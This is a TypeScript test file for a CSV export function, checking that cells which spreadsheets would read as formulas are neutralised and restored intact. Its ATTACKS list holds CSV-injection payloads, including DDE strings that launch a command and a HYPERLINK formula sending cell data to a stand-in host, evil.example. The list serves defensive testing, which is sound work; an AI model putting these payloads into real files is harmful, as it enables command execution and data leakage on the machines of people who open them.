import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell, toCsvLine } from '../../moving/csv.ts';

/** What spreadsheets take for a formula, by the lists of OWASP ("CSV Injection") and of the programs' own manuals. */
const ATTACKS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  @A1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  "'=1+1",
  "''=1+1",
  'harmless;=1+1',
  'harmless; =1+1',
  'a\n=1+1',
] as const;

function cellsOf(line: string): readonly string[] {
  const [cells] = parse(line, { record_delimiter: '\r\n' });
  return cells ?? [];
}

const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell.replace(/^"*/, ''));

describe('a cell of an export', () => {
  it.each(ATTACKS)('that begins a formula, %j, is a text to a spreadsheet', (attack) => {
    for (const text of [attack, `${attack}"`, `"${attack}`]) {
      const line = toCsvLine(['first', text, 'last']);
      for (const cell of cellsOf(line)) expect([cell, isFormula(cell)]).toEqual([cell, false]);
    }
  });

  it.each(ATTACKS)('such as %j begins none behind a semicolon either, where that is the separator', (attack) => {
    const line = toCsvLine(['first', `text;${attack}`, 'last']);
    for (const cell of line.trimEnd().split(';')) expect([cell, isFormula(cell)]).toEqual([cell, false]);
  });

  it.each(ATTACKS)('comes back from %j as it was', (attack) => {
    expect(restoreCell(neutraliseCell(attack))).toBe(attack);
  });

  it('comes back as it was, whatever it is, and is never a formula', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", ' ', ';', '"', ',', '\t', '\r', '\n', 'a', '＝') });
    fc.assert(
      fc.property(text, (cell) => {
        const [, read] = cellsOf(toCsvLine(['x', cell, 'y']));
        expect(restoreCell(String(read))).toBe(cell);
        expect(isFormula(String(read))).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });

  it('that is a number stays one', () => {
    expect(toCsvLine([-5, 0, 1.5, null, true])).toBe('-5,0,1.5,,true\r\n');
  });
});
